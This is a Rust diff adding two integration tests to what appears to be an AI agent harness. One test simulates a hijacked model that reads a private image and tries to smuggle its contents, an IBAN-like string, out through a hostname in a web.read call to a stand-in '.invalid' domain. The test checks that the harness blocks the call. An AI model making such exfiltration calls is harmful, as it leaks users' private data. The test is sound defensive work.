@@ -348,3 +348,32 @@ fn an_image_goes_with_its_run_and_is_removed_with_it() {
     assert_eq!(pruned.code, Some(0), "{pruned}");
     assert!(!place.home().join("blobs").join(&run).exists());
 }
+
+/// A model that was taken over sees the picture and carries what it saw out in an address.
+#[test]
+fn what_a_private_image_shows_in_the_name_of_a_host() {
+    let out = call([("web.read", json!({ "url": "https://iban-de00123.invalid/x" }))]);
+    let endpoint = Endpoint::chat(vec![out, say("I tried")]);
+    let place = place(&endpoint, SEES);
+    let agent = place.read("agent.toml").replace("\"files.read\"", "\"web.read\"");
+    place.write("agent.toml", format!("{agent}net = [\"public\"]\n"));
+    let ran = with_image(&place);
+    assert_eq!(ran.code, Some(3), "{ran}");
+    let journal = place.journal(&ran.run());
+    assert!(journal.contains("`iban-de00123.invalid` is not granted in full"), "{journal}");
+}
+
+#[test]
+fn what_code_reads_its_model_is_shown() {
+    let code = say("```python\nprint(files.read(\"docs/chart.png\"))\n```");
+    let endpoint = Endpoint::chat(vec![code, say("a chart")]);
+    let here = Place::with_python();
+    let agent = endpoint.agent(SEES).replace("task =", "act = \"code\"\ntask =");
+    let agent = agent.replace("[\"files.read\"]", "[\"python\", \"files.read\"]");
+    here.write("agent.toml", agent).write("docs/chart.png", png(640, 480));
+    let ran = here.run();
+    assert_eq!(ran.code, Some(0), "{ran}");
+    let told = endpoint.body(1)["messages"].as_array().unwrap().last().unwrap().clone();
+    let image = told["content"].as_array().unwrap().last().unwrap().clone();
+    assert_eq!(image["image_url"]["url"], url(&png(640, 480)), "{told}");
+}
